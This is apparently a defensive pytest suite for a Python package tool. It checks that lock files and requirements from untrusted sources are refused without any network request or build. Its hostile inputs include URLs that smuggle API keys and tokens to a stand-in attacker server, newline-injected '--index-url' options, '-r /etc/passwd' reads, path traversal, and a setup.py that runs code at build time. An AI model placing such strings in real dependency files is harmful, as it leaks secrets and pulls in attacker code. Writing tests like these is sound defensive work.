"""Locks and requirements of a stranger: nothing in them reaches uv, so nothing is sent or built."""

from __future__ import annotations

import hashlib
import io
import json
import tarfile
import zipfile
from pathlib import Path
from typing import Any

import pytest
import tomlkit
from command_line import HubRoom, Wander
from hypothesis import given
from hypothesis import strategies as st
from lying_hub import LyingHub
from wander.wire.package_index import check_requirement, parse_file_address
from wander_client.errors import ClientError
from wander_client.packages.needs import read_requirement

SECRETS = {
    name: f"secret-of-{name.lower()}"
    for name in ("OPENAI_API_KEY", "HF_TOKEN", "AWS_SECRET_ACCESS_KEY", "MY_PASSWORD")
}
WHEEL = "evil-1.0-py3-none-any.whl"
DIGEST = {"sha256": "a" * 64}
PLACES = [
    "@URL@/${OPENAI_API_KEY}/${WANDER_TOKEN}/" + WHEEL,
    "@URL@/$OPENAI_API_KEY/" + WHEEL,
    "@URL@/%24%7BOPENAI_API_KEY%7D/" + WHEEL,
    "@URL@/x/" + WHEEL + "?key=${OPENAI_API_KEY}",
    "@URL@/x/" + WHEEL + "#${HF_TOKEN}",
    "http://${MY_PASSWORD}@@HOST@/" + WHEEL,
    "@URL@/" + WHEEL + " --index-url @URL@/simple",
    "@URL@/" + WHEEL + "\n--index-url @URL@/simple",
    "@URL@/" + WHEEL + "\r\n--no-binary :all:",
    "@URL@/x\\\n/" + WHEEL,
    "git+@URL@/repository.git",
    "file:///etc/" + WHEEL,
    "ftp://@HOST@/" + WHEEL,
    "//@HOST@/" + WHEEL,
    "@URL@/../" + WHEEL,
    "@URL@/%2e%2e/" + WHEEL,
    "@URL@/" + WHEEL,
    "@URL@/evil-1.0.tar.gz",
]
"""Addresses of a stranger, over http: none of them may be asked."""


@pytest.fixture(autouse=True)
def secrets(monkeypatch: pytest.MonkeyPatch, hub: HubRoom) -> None:
    monkeypatch.setenv("WANDER_TOKEN", hub.token)
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)


def at(place: str, stranger: LyingHub) -> str:
    return place.replace("@URL@", stranger.url).replace("@HOST@", stranger.url.partition("://")[2])


def source_archive(mark: Path) -> bytes:
    """Return a source archive whose build leaves a mark."""
    setup = (
        f"open({str(mark)!r}, 'w').close()\nfrom setuptools import setup\nsetup(name='evil', version='1.0')"
    )
    content = io.BytesIO()
    with tarfile.open(fileobj=content, mode="w:gz") as archive:
        for name, text in (("setup.py", setup), ("PKG-INFO", "Name: evil\nVersion: 1.0\n")):
            member = tarfile.TarInfo(f"evil-1.0/{name}")
            member.size = len(text.encode())
            archive.addfile(member, io.BytesIO(text.encode()))
    return content.getvalue()


def give_lock(behind: LyingHub, *packages: dict[str, Any]) -> None:
    """Have the hub say that its version has a lock with these packages and the version's own wheel."""

    def edit(data: Any) -> None:
        (wheel,) = [file for file in data["files"] if file["filename"].endswith(".whl")]
        wheel["url"] = url = f"{behind.url}/admin/files/say-env/{wheel['filename']}"
        own = {"url": url, "size": wheel["size"], "hashes": {"sha256": wheel["sha256"]}}
        listed = [{"name": "say-env", "version": "0.1.0", "wheels": [own]}, *packages]
        text = tomlkit.dumps({"lock-version": "1.0", "created-by": "x", "packages": listed}).encode()
        behind.answer("/hostile.toml$", body=text)
        data["lock"] = {
            "sha256": hashlib.sha256(text).hexdigest(),
            "size": len(text),
            "url": "/hostile.toml",
            "attached_at": "2026-01-01T00:00:00Z",
        }

    behind.edit("/versions/0.1.0$", edit)


def locked(url: str, kind: str = "wheels") -> dict[str, Any]:
    file = {
        "url": url,
        "hashes": {"sha256": "a" * 64},
        "name": WHEEL if kind == "wheels" else "evil-1.0.tar.gz",
    }
    return {"name": "evil", "version": "1.0", kind: [file] if kind == "wheels" else file}


def says_nothing_secret(*servers: LyingHub) -> None:
    for server in servers:
        for seen in server.seen:
            whole = json.dumps([seen.path, seen.headers]) + seen.body.decode("latin-1")
            assert not [name for name, value in SECRETS.items() if value in whole]


@pytest.mark.parametrize(
    "place",
    [*[*PLACES][:4], *(pytest.param(each, marks=pytest.mark.full) for each in [*PLACES][4:])],
)
def test_addresses_in_a_lock_receive_no_request(
    place: str, wander: Wander, behind: LyingHub, stranger: LyingHub
) -> None:
    give_lock(behind, locked(at(place, stranger)))
    for words in (
        ["install", "admin/say-env@0.1.0"],
        ["eval", "admin/say-env@0.1.0", "-m", "scripted:say_env:solver", "-n", "1"],
        ["eval", "admin/say-env@0.1.0", "-m", "m", "-b", "http://127.0.0.1:9/v1", "-n", "1", "--sandbox"],
    ):
        refused = wander(*words, "--json")
        assert refused.status == 1, (words, refused.out, refused.err)
        assert refused.json["error"]["code"] in ("bad_lock", "unlockable"), (words, refused.json)
    assert stranger.seen == []
    says_nothing_secret(behind)


@pytest.mark.parametrize(
    "source",
    [
        {"vcs": {"type": "git", "url": "@URL@/x.git", "commit-id": "a" * 40}},
        {"directory": {"path": "/etc"}},
        {"archive": {"path": "/etc/x.tar.gz", "hashes": DIGEST}},
        {"archive": {"url": "@URL@/evil.zip", "hashes": DIGEST}},
        {"wheels": [{"path": f"../{WHEEL}", "hashes": DIGEST}]},
        {"wheels": [{"url": f"@URL@/{WHEEL}", "hashes": {"md5": "a" * 32}}]},
        {"sdist": {"url": "@URL@/evil-1.0.tar.gz", "hashes": DIGEST}},
    ],
)
def test_a_lock_may_only_name_wheels_and_releases(
    source: dict[str, Any], wander: Wander, behind: LyingHub, stranger: LyingHub
) -> None:
    package = {"name": "evil", "version": "1.0", **source}
    give_lock(behind, json.loads(json.dumps(package).replace("@URL@", stranger.url)))
    refused = wander("install", "admin/say-env@0.1.0", "--json")
    assert refused.status == 1
    assert refused.json["error"]["code"] in ("bad_lock", "unlockable", "lock_platform"), refused.json
    assert stranger.seen == []


def test_a_source_archive_of_a_lock_is_not_built(wander: Wander, behind: LyingHub, home: Path) -> None:
    """It lies on the hub itself, with the right digest: nobody built it before the user said so."""
    content = source_archive(home / "ran")
    behind.answer("/evil-1.0.tar.gz$", body=content)
    url = f"{behind.url}/admin/files/evil/evil-1.0.tar.gz"
    file = {"url": url, "size": len(content), "hashes": {"sha256": hashlib.sha256(content).hexdigest()}}
    give_lock(behind, {"name": "evil", "version": "1.0", "sdist": file})
    for more in ([], ["--no-lock"]):
        refused = wander("install", "admin/say-env@0.1.0", *more, "--json")
        assert refused.status != 0
    assert not (home / "ran").exists()


REQUIRED = [f"evil @ {place}" for place in PLACES] + [
    "evil; python_version > '${OPENAI_API_KEY}'",
    "evil\n-r /etc/passwd",
    "evil[${HF_TOKEN}]",
    "-r /etc/passwd",
    "--index-url @URL@/simple",
    "evil @ file:///etc/passwd",
    "evil @ ./evil",
    "./evil",
]


@pytest.mark.parametrize("text", REQUIRED)
def test_urls_in_requirements_of_a_folder_receive_no_request(
    text: str, wander: Wander, folder: Path, home: Path, stranger: LyingHub
) -> None:
    text = at(text, stranger)
    project = tomlkit.parse((folder / "pyproject.toml").read_text())
    project["project"]["dependencies"] = ["wander-sdk", text]  # type: ignore[index]
    (folder / "pyproject.toml").write_text(tomlkit.dumps(project))
    for words in (["eval", "./say-env", "-m", "scripted:say_env:solver", "-n", "1"], ["check", "./say-env"]):
        refused = wander(*words, "--json")
        assert refused.json["error"]["code"] == "unsafe_requirement", (words, refused.out)
    assert stranger.seen == []


@pytest.mark.parametrize("text", REQUIRED)
def test_build_requirements_may_not_be_urls(
    text: str, wander: Wander, folder: Path, home: Path, stranger: LyingHub
) -> None:
    text = at(text, stranger)
    with (folder / "pyproject.toml").open("a") as file:
        file.write(f'\n[build-system]\nbuild-backend = "hatchling.build"\nrequires = [{json.dumps(text)}]\n')
    refused = wander("publish", "./say-env", "--dry-run", "--json")
    assert refused.json["error"]["code"] in ("unsafe_requirement", "bad_pyproject"), refused.out
    assert stranger.seen == []


def test_scripts_in_a_wheel_may_not_require_urls(tmp_path: Path) -> None:
    from wander_client.packages import classic

    path = tmp_path / "x-1-py3-none-any.whl"
    block = "# /// script\n# dependencies = ['a @ http://h/${OPENAI_API_KEY}/a-1-py3-none-any.whl']\n# ///\n"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("x.py", f"import verifiers.v1\nPROGRAM = '''{block}'''\n")
        archive.writestr("x-1.dist-info/METADATA", "Name: x\nVersion: 1\n")
    for text in classic.requirements_of_programs(path):
        with pytest.raises(ClientError):
            read_requirement(text, "x")


@given(st.text(st.sampled_from("ab/.:@${}%\\ \n\t#?&;'\"é") | st.characters(), max_size=30))
def test_accepted_locks_contain_only_plain_entries(text: str) -> None:
    """Whatever passes has no character that uv, a shell or a log could take for something else."""
    try:
        address = parse_file_address(f"https://h.example/{text}/x-1-py3-none-any.whl")
    except ValueError:
        return
    assert not set(address.url) & set("${}\\ \n\t\r#?&'\"<>`^|*")
    assert address.url.isascii()
    check_requirement(f"x @ {address.url}", address.url)
